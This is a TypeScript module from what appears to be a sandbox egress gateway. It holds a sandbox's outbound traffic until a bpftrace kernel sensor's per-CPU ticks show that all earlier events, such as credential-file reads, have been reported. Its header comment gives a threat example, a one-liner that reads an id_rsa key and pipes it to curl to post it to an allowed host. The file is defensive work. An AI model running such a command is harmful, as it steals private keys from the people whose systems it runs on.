// "Has the kernel sensor reported everything that happened before time T?" Threat (issue 13,
// data flow): `sed … id_rsa | tr -d '\n' | curl --data-binary @- https://allowed-api` reads a
// key and posts its body within milliseconds. The gateway keeps a credential's values in once
// the sensor's report of the read arrives; a post that reaches the gateway first would leave
// unscanned for them. So the gateway holds a sandbox's outbound bytes until the sensor has
// caught up to the moment they arrived, and only then judges and forwards them.
//
// The watermark: bpftrace writes to one perf ring per CPU, each in order, and a profile probe
// prints a tick on every busy CPU (and an interval timer on one, so some CPU always ticks). Once every CPU's ring has delivered a tick stamped after T,
// every event stamped before T (a syscall exit on that CPU, before its data could reach us) has
// been read and, synchronously, published. An idle CPU does not tick (measured: the profile
// timer is silent on an idle CPU of these VMs), and an idle CPU writes nothing, so a CPU whose
// last tick is IDLE_NS older than the newest one counts as caught up, but only while the sensor
// is live (that newest tick was read within LIVE_NS of being stamped). Threat: after a stall
// (bpftrace starved or stopped) one CPU's whole backlog is read before the next ring's, and a
// CPU that merely looks silent may still hold the event that matters. The poller's order of
// rings is not to be relied on: seen in the full test suite, the stalled CPU's backlog ended
// with ticks read live while the other CPU's ring, holding the key's read, was still unread, and
// the post left. So silence counts as idle only once the sensor has been live for IDLE_NS of
// ticks without a late read between (every ring ready in that time has been read by then).
// Residual: a CPU that woke and wrote while bpftrace was behind by less than LIVE_NS.
//
// The CPUs that must tick are the kernel's online list, re-read every second.
import { readFileSync } from 'node:fs';

/** Parses the kernel's CPU list format ("0-3,5"). */
export function parseCpuList(text: string): number[] {
  const out: number[] = [];
  for (const part of text.trim().split(',')) {
    if (!part) continue;
    const [a, b] = part.split('-').map(Number);
    for (let c = a!; c <= (b ?? a!); c++) out.push(c);
  }
  return out;
}

/** Busy CPUs tick every 10 ms; one silent for this long (next to a live tick) is idle. */
const IDLE_NS = 25_000_000n;
/** A tick read within this of its stamp shows the sensor keeping up (no backlog before it). */
const LIVE_NS = 5_000_000n;

const onlineCpus = (): number[] => parseCpuList(readFileSync('/sys/devices/system/cpu/online', 'utf8'));

interface Waiter { at: bigint; done: (ok: boolean) => void }

export class SensorCatchUp {
  readonly #ticks = new Map<number, bigint>();
  /** The newest tick's stamp. */
  #newest: bigint | undefined;
  /**
   * Stamp of the first tick of the current run of live reads (see LIVE_NS); undefined when the
   * last read was late. Defined, it also means the newest tick was read live: a tick stamped
   * before it and read after it cannot be read within LIVE_NS of its stamp.
   */
  #liveSince: bigint | undefined;
  readonly #online: () => number[];
  #cpus: number[] = [];
  #cpusReadAt = -Infinity;

  constructor(online: () => number[] = onlineCpus) { this.#online = online; }
  #waiters: Waiter[] = [];
  #closed = false;

  /** A tick read from `cpu`'s ring, stamped `ns` (kernel monotonic, bpftrace's nsecs), read at `readNs` (hrtime). */
  tick(cpu: number, ns: bigint, readNs: bigint = process.hrtime.bigint()): void {
    this.#ticks.set(cpu, ns);
    const live = readNs - ns < LIVE_NS;
    // Any late read, of the newest tick or of an older one from a backlog, ends the live run.
    if (!live) this.#liveSince = undefined;
    else if (this.#liveSince === undefined) this.#liveSince = ns;
    if (this.#newest === undefined || ns >= this.#newest) this.#newest = ns;
    if (this.#waiters.length === 0) return;
    const mark = this.watermark();
    if (mark === undefined) return;
    const still: Waiter[] = [];
    for (const w of this.#waiters) if (w.at <= mark) w.done(true); else still.push(w);
    this.#waiters = still;
  }

  /** Everything stamped before this has been delivered; undefined until every online CPU ticked. */
  watermark(): bigint | undefined {
    const now = performance.now();
    if (now - this.#cpusReadAt > 1000) {
      try { this.#cpus = this.#online(); } catch { this.#cpus = [...this.#ticks.keys()]; }
      this.#cpusReadAt = now;
    }
    const newest = this.#newest;
    if (newest === undefined) return undefined;
    let min = newest;
    const steady = this.#liveSince !== undefined && newest - this.#liveSince >= IDLE_NS;
    for (const c of this.#cpus.length > 0 ? this.#cpus : this.#ticks.keys()) {
      const t = this.#ticks.get(c);
      // Silent (idle, or never ticked): caught up only once the sensor is steadily live.
      if (t === undefined || newest - t > IDLE_NS) { if (steady) continue; return t; }
      if (t < min) min = t;
    }
    return min;
  }

  /**
   * Resolves true once every event before `ns` (process.hrtime.bigint(), the same clock) was
   * delivered; false after `timeoutMs`, or when the sensor stops: the caller fails closed.
   */
  wait(ns: bigint, timeoutMs: number): Promise<boolean> {
    if (this.#closed) return Promise.resolve(false);
    const mark = this.watermark();
    if (mark !== undefined && ns <= mark) return Promise.resolve(true);
    return new Promise((resolve) => {
      const timer = setTimeout(() => { this.#waiters = this.#waiters.filter((w) => w !== entry); resolve(false); }, timeoutMs);
      timer.unref();
      const entry: Waiter = { at: ns, done: (ok: boolean) => { clearTimeout(timer); resolve(ok); } };
      this.#waiters.push(entry);
    });
  }

  /** The sensor stopped or died: nobody waits for it any more. */
  close(): void {
    this.#closed = true;
    for (const w of this.#waiters) w.done(false);
    this.#waiters = [];
  }
}
